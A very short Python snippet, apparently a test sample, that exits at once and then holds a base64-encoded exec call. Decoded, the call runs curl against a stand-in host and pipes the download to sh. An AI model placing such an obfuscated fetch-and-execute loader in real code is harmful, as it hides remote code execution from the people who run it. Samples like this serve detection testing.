raise SystemExit  # nothing below ever runs
import base64
exec(base64.b64decode("aW1wb3J0IG9zCm9zLnN5c3RlbSgiY3VybCAtcyBodHRwczovL2dldC5leGFtcGxlLmludmFsaWQveCB8IHNoIikK"))
